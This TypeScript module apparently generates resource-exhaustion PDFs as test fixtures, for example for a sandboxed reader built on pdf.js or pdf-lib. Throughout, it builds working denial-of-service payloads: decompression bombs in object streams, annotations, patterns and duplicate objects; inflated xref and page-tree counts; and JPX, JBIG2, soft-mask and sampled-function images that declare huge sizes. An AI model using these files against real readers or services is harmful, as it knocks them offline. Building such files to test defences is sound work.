/**
 * Small PDFs that attack a reader's structure parsing rather than one page's
 * content: cross-reference streams and page trees that declare far more than
 * they hold, object streams and appearance, pattern or duplicate objects
 * that inflate far past the page-content limit, and image or function
 * dictionaries whose decoder is told a size far beyond the one declared to
 * the reader. Each is written object by object (xref table or xref stream,
 * with object streams where needed), so each reader meets exactly the
 * structure described.
 */
import { deflateSync } from 'node:zlib';

/** One indirect object as written: its number, its dictionary or value text, and a stream's bytes when it has one. */
interface NumberedObject {
  num: number;
  body: string;
  stream?: Buffer;
}

/** Objects kept in one object stream (numbered `num`), padded with white space until it inflates to `inflatedBytes`. */
interface ObjectStream {
  num: number;
  members: NumberedObject[];
  inflatedBytes: number;
}

const latin1 = (s: string) => Buffer.from(s, 'latin1');

const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';

/** Object streams and bombs are this large unless a variant asks otherwise. */
const BOMB_BYTES = 200 * 1024 ** 2;

function objectBytes({ num, body, stream }: NumberedObject): Buffer {
  if (!stream) return latin1(`${num} 0 obj\n${body}\nendobj\n`);
  const dict = body.replace(/>>\s*$/, ` /Length ${stream.length} >>`);
  return Buffer.concat([latin1(`${num} 0 obj\n${dict}\nstream\n`), stream, latin1('\nendstream\nendobj\n')]);
}

/**
 * The header and `objects` in file order, with each number's offset. A number written twice keeps the offset
 * of its first copy, which is the one a cross-reference section then points to.
 */
function layBody(objects: NumberedObject[]): { parts: Buffer[]; offsets: Map<number, number>; length: number } {
  const parts: Buffer[] = [latin1(HEADER)];
  let length = parts[0].length;
  const offsets = new Map<number, number>();
  for (const object of objects) {
    if (!offsets.has(object.num)) offsets.set(object.num, length);
    const bytes = objectBytes(object);
    parts.push(bytes);
    length += bytes.length;
  }
  return { parts, offsets, length };
}

/** `objects` (object 1 the catalog) with a classic xref table. */
function withXrefTable(objects: NumberedObject[]): Buffer {
  const { parts, offsets, length } = layBody(objects);
  const size = Math.max(...offsets.keys()) + 1;
  const rows = Array.from({ length: size }, (_, num) => {
    const offset = offsets.get(num);
    return offset === undefined ? '0000000000 65535 f ' : `${String(offset).padStart(10, '0')} 00000 n `;
  });
  const tail = [
    'xref',
    `0 ${size}`,
    ...rows,
    'trailer',
    `<< /Size ${size} /Root 1 0 R >>`,
    'startxref',
    String(length),
  ];
  parts.push(latin1(`${tail.join('\n')}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** An object stream's bytes: the offsets header, its members, then white space up to `inflatedBytes`. */
function objectStreamObject({ num, members, inflatedBytes }: ObjectStream): NumberedObject {
  const texts = members.map((member) => `${member.body}\n`);
  const starts: number[] = [];
  texts.reduce((at, textOf) => {
    starts.push(at);
    return at + textOf.length;
  }, 0);
  const header = `${members.map((member, i) => `${member.num} ${starts[i]}`).join(' ')}\n`;
  const content = latin1(header + texts.join(''));
  const padded = Buffer.alloc(Math.max(inflatedBytes, content.length), 0x20);
  content.copy(padded);
  return {
    num,
    body: `<< /Type /ObjStm /N ${members.length} /First ${header.length} /Filter /FlateDecode >>`,
    stream: deflateSync(padded, { level: 9 }),
  };
}

interface XrefStreamOptions {
  /** The /Size the xref stream declares; by default the true count. */
  declaredSize?: number;
  /** Field widths; [1, 2, 1] fits offsets below 64 KiB. */
  widths?: [number, number, number];
  /** Objects stored in an object stream, reached through type-2 entries. */
  objectStream?: ObjectStream;
}

const bigEndian = (value: number, width: number) => {
  const bytes = Buffer.alloc(width);
  for (let i = width - 1, rest = value; i >= 0; i--, rest = Math.floor(rest / 256)) bytes[i] = rest % 256;
  return bytes;
};

/**
 * `objects` (object 1 the catalog) with a cross-reference stream, numbered after every other object and
 * written uncompressed, and optionally an object stream whose members only it locates.
 */
function withXrefStream(objects: NumberedObject[], options: XrefStreamOptions = {}): Buffer {
  const { objectStream, widths = [1, 4, 2] } = options;
  const written = objectStream ? [...objects, objectStreamObject(objectStream)] : objects;
  const { parts, offsets, length } = layBody(written);
  const stored = new Map(objectStream?.members.map((member, i) => [member.num, i]));
  const xrefNum = Math.max(...offsets.keys(), ...stored.keys()) + 1;
  offsets.set(xrefNum, length);
  const size = xrefNum + 1;
  const rows = Array.from({ length: size }, (_, num): [number, number, number] => {
    const offset = offsets.get(num);
    const index = stored.get(num);
    if (offset !== undefined) return [1, offset, 0];
    if (index !== undefined && objectStream) return [2, objectStream.num, index];
    return [0, 0, 0];
  });
  const entries = Buffer.concat(rows.flatMap((row) => row.map((field, i) => bigEndian(field, widths[i]))));
  // Without /Index the entries are read as [0 Size]: a larger /Size than the rows asks the reader for that many.
  const index = options.declaredSize === undefined ? ` /Index [0 ${size}]` : '';
  const dict = `<< /Type /XRef /Size ${options.declaredSize ?? size}${index} /W [${widths.join(' ')}] /Root 1 0 R >>`;
  parts.push(objectBytes({ num: xrefNum, body: dict, stream: entries }), latin1(`startxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const CATALOG: NumberedObject = { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' };
const ONE_PAGE_TREE: NumberedObject = { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' };
const page = (entries: string): NumberedObject => ({
  num: 3,
  body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${entries} >>`,
});
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A one-page document (page object 3) with an xref table; `more` numbers its objects from 4 on. */
function onePage(pageEntries: string, more: Omit<NumberedObject, 'num'>[]): Buffer {
  return withXrefTable([
    CATALOG,
    ONE_PAGE_TREE,
    page(pageEntries),
    ...more.map((object, i) => ({ ...object, num: i + 4 })),
  ]);
}

/** White space (empty content to any content parser) deflated: `bytes` of it in about a thousandth the size. */
const inflated = new Map<number, Buffer>();
function deflatedSpaces(bytes: number): Buffer {
  let deflated = inflated.get(bytes);
  if (!deflated) {
    deflated = deflateSync(Buffer.alloc(bytes, 0x20), { level: 9 });
    inflated.set(bytes, deflated);
  }
  return deflated;
}

/** A one-page document whose cross-reference stream declares `size` entries and holds only the few real ones. */
function xrefSizeBombOf(size: number): Buffer {
  return withXrefStream(
    [CATALOG, ONE_PAGE_TREE, page('/Contents 4 0 R'), { num: 4, body: '<< >>', stream: latin1('0 0 m 100 100 l S\n') }],
    { declaredSize: size, widths: [1, 2, 1] },
  );
}

/** A page tree `levels` deep whose every /Kids lists one shared child `kidsPerLevel` times, over one page. */
function pageTreeFanOutOf(kidsPerLevel: number, levels: number): Buffer {
  const nodes = Array.from({ length: levels }, (_, level): NumberedObject => {
    const num = level + 2;
    const kids = Array(kidsPerLevel)
      .fill(`${num + 1} 0 R`)
      .join(' ');
    const parent = level > 0 ? ` /Parent ${num - 1} 0 R` : '';
    return { num, body: `<< /Type /Pages${parent} /Kids [${kids}] /Count ${kidsPerLevel ** (levels - level)} >>` };
  });
  const leaf = levels + 2;
  return withXrefTable([
    CATALOG,
    ...nodes,
    { num: leaf, body: `<< /Type /Page /Parent ${leaf - 1} 0 R /MediaBox [0 0 612 792] /Contents ${leaf + 1} 0 R >>` },
    { num: leaf + 1, body: '<< >>', stream: latin1('0 0 m 100 100 l S\n') },
  ]);
}

/** One /Pages node over `count` distinct pages that share one small content stream: a wide but honest tree. */
export function widePageTree(count: number): Buffer {
  const content = count + 3;
  const kids = Array.from({ length: count }, (_, i) => `${i + 3} 0 R`).join(' ');
  return withXrefTable([
    CATALOG,
    { num: 2, body: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>` },
    ...Array.from(
      { length: count },
      (_, i): NumberedObject => ({
        num: i + 3,
        body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${content} 0 R >>`,
      }),
    ),
    { num: content, body: '<< >>', stream: latin1('0 0 m 100 100 l S\n') },
  ]);
}

/** A one-page document whose page object lies in an object stream that inflates to `inflatedBytes`. */
function objectStreamBombOf(inflatedBytes: number): Buffer {
  return withXrefStream([CATALOG, ONE_PAGE_TREE, { num: 4, body: '<< >>', stream: latin1('0 0 m 100 100 l S\n') }], {
    objectStream: { num: 5, members: [page('/Contents 4 0 R')], inflatedBytes },
  });
}

/**
 * Object 4 (the page's content) written twice: first (where the xref table points) white space inflating to
 * `inflatedBytes`, then "Hello" in Helvetica. pdf-lib parses the body in order, so the later copy replaces
 * the first; pdf.js reads the copy at the recorded offset.
 */
function duplicateObjectBombOf(inflatedBytes: number): Buffer {
  return withXrefTable([
    CATALOG,
    ONE_PAGE_TREE,
    page('/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R'),
    { num: 4, body: '<< /Filter /FlateDecode >>', stream: deflatedSpaces(inflatedBytes) },
    { num: 5, body: HELVETICA },
    { num: 4, body: '<< >>', stream: latin1('BT /F1 12 Tf 72 700 Td (Hello) Tj ET\n') },
  ]);
}

/** A JPEG 2000 codestream that declares a `width` × `height` RGB image in one tile, with an empty tile after it. */
function j2kHeader(width: number, height: number): Buffer {
  const u16 = (value: number) => bigEndian(value, 2);
  const u32 = (value: number) => bigEndian(value, 4);
  const components = 3;
  const siz = Buffer.concat([
    u16(0xff51),
    u16(38 + 3 * components),
    u16(0),
    ...[width, height, 0, 0, width, height, 0, 0].map(u32),
    u16(components),
    ...Array.from({ length: components }, () => Buffer.from([7, 1, 1])),
  ]);
  // Five decomposition levels, 64 × 64 code blocks, reversible 5-3 wavelet; no quantization (one exponent each).
  const cod = Buffer.concat([u16(0xff52), u16(12), Buffer.from([0, 0, 0, 1, 0, 5, 4, 4, 0, 1])]);
  const qcd = Buffer.concat([u16(0xff5c), u16(19), Buffer.from([0x40, ...Array(16).fill(8 << 3)])]);
  const tile = Buffer.concat([
    u16(0xff90),
    u16(10),
    u16(0),
    u32(0),
    Buffer.from([0, 1]),
    u16(0xff93),
    Buffer.from([0]),
  ]);
  return Buffer.concat([u16(0xff4f), siz, cod, qcd, tile, u16(0xffd9)]);
}

/** An embedded JBIG2 segment: header (page 1, no referred segments) and data. */
function jbig2Segment(num: number, type: number, data: Buffer): Buffer {
  return Buffer.concat([bigEndian(num, 4), Buffer.from([type, 0, 1]), bigEndian(data.length, 4), data]);
}

/**
 * An embedded JBIG2 stream declaring a `width` × `height` page, then an immediate generic region as large,
 * arithmetic-coded, over a few bytes of data: the decoder works through every pixel of it.
 */
function jbig2Page(width: number, height: number): Buffer {
  const u32 = (value: number) => bigEndian(value, 4);
  // Default pixel 1: a decoder that allocates the page fills all of it.
  const pageInfo = Buffer.concat([u32(width), u32(height), u32(0), u32(0), Buffer.from([0x04]), bigEndian(0, 2)]);
  const regionInfo = Buffer.concat([u32(width), u32(height), u32(0), u32(0), Buffer.from([0])]);
  // Template 0 without typical prediction; the four adaptive pixels at their nominal places.
  const generic = Buffer.from([0x00, 3, 0xff, 0xfd, 0xff, 2, 0xfe, 0xfe, 0xfe]);
  return Buffer.concat([
    jbig2Segment(0, 48, pageInfo),
    jbig2Segment(1, 38, Buffer.concat([regionInfo, generic, Buffer.alloc(16)])),
  ]);
}

/** One page drawing image /Im0 (object 5, its dictionary entries `imageEntries`) over 300 × 300 points. */
function imagePage(imageEntries: string, imageBytes: Buffer, more: Omit<NumberedObject, 'num'>[] = []): Buffer {
  return onePage('/Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R', [
    { body: '<< >>', stream: latin1('q 300 0 0 300 100 100 cm /Im0 Do Q\n') },
    { body: `<< /Type /XObject /Subtype /Image ${imageEntries} >>`, stream: imageBytes },
    ...more,
  ]);
}

/** A 10 × 10 JPXDecode image whose codestream declares `width` × `height` pixels. */
export function jpxBombOf(width: number, height: number): Buffer {
  return imagePage(
    '/Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /JPXDecode',
    j2kHeader(width, height),
  );
}

/**
 * A 10 × 10 JBIG2Decode image whose stream declares a `width` × `height` page and generic region. pdf.js's
 * wasm decoder draws into a page of the dictionary's size and fails on a region past its own limit; pdf.js
 * then falls back to its JavaScript decoder, which allocates the declared page and decodes the whole region.
 */
export function jbig2BombOf(width: number, height: number): Buffer {
  return imagePage(
    '/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
    jbig2Page(width, height),
  );
}

/**
 * The same JBIG2 data behind a FlateDecode filter: the reader reads a codec's declared size only where its
 * data is stored as is, so this one reaches pdf.js, and only the sandbox's ceiling stops it.
 */
function deflatedJbig2BombOf(width: number, height: number): Buffer {
  return imagePage(
    '/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter [/FlateDecode /JBIG2Decode]',
    deflateSync(jbig2Page(width, height)),
  );
}

/**
 * A 10 × 10 image whose soft mask declares `edge` × `edge` pixels, its samples inflating to `inflatedBytes`.
 * pdf.js decodes the image at its mask's size when the mask is larger (4 bytes a pixel); an edge of 100,000
 * is past the largest typed array, so pdf.js drops that image at once instead.
 */
export function smaskBombOf(edge: number, inflatedBytes: number): Buffer {
  return imagePage(
    '/Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /SMask 6 0 R /Filter /FlateDecode',
    deflateSync(Buffer.alloc(10 * 10 * 3, 0x80)),
    [
      {
        body: `<< /Type /XObject /Subtype /Image /Width ${edge} /Height ${edge} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode >>`,
        stream: deflatedSpaces(inflatedBytes),
      },
    ],
  );
}

export interface StructureBombs {
  /** A cross-reference stream declaring /Size 5,000,000 over its six real entries, in a file of about 400 bytes. */
  xrefSizeBomb: Buffer;
  /** A page tree three levels deep whose every /Kids lists one shared child 300 times: 27,000,000 pages. */
  pageTreeFanOut: Buffer;
  /** The page object kept in an object stream (reached through the xref stream) that inflates to 200 MiB. */
  objectStreamBomb: Buffer;
  /** A page whose content inflates to 200 MiB of white space, past the layout's limit: for rendering. */
  renderOnlyContentBomb: Buffer;
  /** A small page with one Square annotation whose normal appearance (a form) inflates to 200 MiB. */
  annotationAppearanceBomb: Buffer;
  /** A page filling a rectangle with a tiling pattern whose pattern content inflates to 200 MiB. */
  tilingPatternBomb: Buffer;
  /** The page's content object defined twice: a 200 MiB bomb where the xref points, a small text stream after it. */
  duplicateObjectBomb: Buffer;
  /** A 10 × 10 JPXDecode image whose codestream declares 30,000 × 30,000 pixels. */
  jpxBomb: Buffer;
  /** A 10 × 10 JBIG2Decode image whose stream declares a 100,000 × 100,000 page and generic region. */
  jbig2Bomb: Buffer;
  /** The JBIG2 bomb behind a FlateDecode filter, where the reader does not read its declared size. */
  deflatedJbig2Bomb: Buffer;
  /** A 10 × 10 image whose soft mask declares 100,000 × 100,000 pixels and inflates to 200 MiB. */
  smaskBomb: Buffer;
  /** A page whose graphics state sets a transfer function sampled at 65,535 × 65,535 points (4.3 G samples). */
  sampledFunctionBomb: Buffer;
  /** An axial shading painted with `sh` whose one-input sampled function declares 2,000,000,000 samples. */
  shadingFunctionBomb: Buffer;
}

export function structureBombs(): StructureBombs {
  const bomb = deflatedSpaces(BOMB_BYTES);
  return {
    xrefSizeBomb: xrefSizeBombOf(5_000_000),
    pageTreeFanOut: pageTreeFanOutOf(300, 3),
    objectStreamBomb: objectStreamBombOf(BOMB_BYTES),
    renderOnlyContentBomb: onePage('/Contents 4 0 R', [{ body: '<< /Filter /FlateDecode >>', stream: bomb }]),
    annotationAppearanceBomb: onePage('/Annots [5 0 R] /Contents 4 0 R', [
      { body: '<< >>', stream: latin1('0 0 m 100 100 l S\n') },
      { body: '<< /Type /Annot /Subtype /Square /Rect [100 100 300 300] /F 4 /AP << /N 6 0 R >> >>' },
      { body: '<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Filter /FlateDecode >>', stream: bomb },
    ]),
    tilingPatternBomb: onePage('/Resources << /Pattern << /P0 5 0 R >> >> /Contents 4 0 R', [
      { body: '<< >>', stream: latin1('q /Pattern cs /P0 scn 100 100 300 300 re f Q\n') },
      {
        body: '<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 /Resources << >> /Filter /FlateDecode >>',
        stream: bomb,
      },
    ]),
    duplicateObjectBomb: duplicateObjectBombOf(BOMB_BYTES),
    jpxBomb: jpxBombOf(30_000, 30_000),
    jbig2Bomb: jbig2BombOf(100_000, 100_000),
    deflatedJbig2Bomb: deflatedJbig2BombOf(100_000, 100_000),
    smaskBomb: smaskBombOf(100_000, BOMB_BYTES),
    sampledFunctionBomb: onePage('/Resources << /ExtGState << /GS0 << /TR 5 0 R >> >> >> /Contents 4 0 R', [
      { body: '<< >>', stream: latin1('q /GS0 gs 100 100 300 300 re f Q\n') },
      {
        body: '<< /FunctionType 0 /Domain [0 1 0 1] /Range [0 1] /Size [65535 65535] /BitsPerSample 8 >>',
        stream: Buffer.alloc(16),
      },
    ]),
    shadingFunctionBomb: onePage('/Resources << /Shading << /Sh0 5 0 R >> >> /Contents 4 0 R', [
      { body: '<< >>', stream: latin1('q 100 0 0 100 100 100 cm /Sh0 sh Q\n') },
      { body: '<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 0] /Function 6 0 R >>' },
      {
        body: '<< /FunctionType 0 /Domain [0 1] /Range [0 1] /Size [2000000000] /BitsPerSample 8 >>',
        stream: Buffer.alloc(16),
      },
    ]),
  };
}
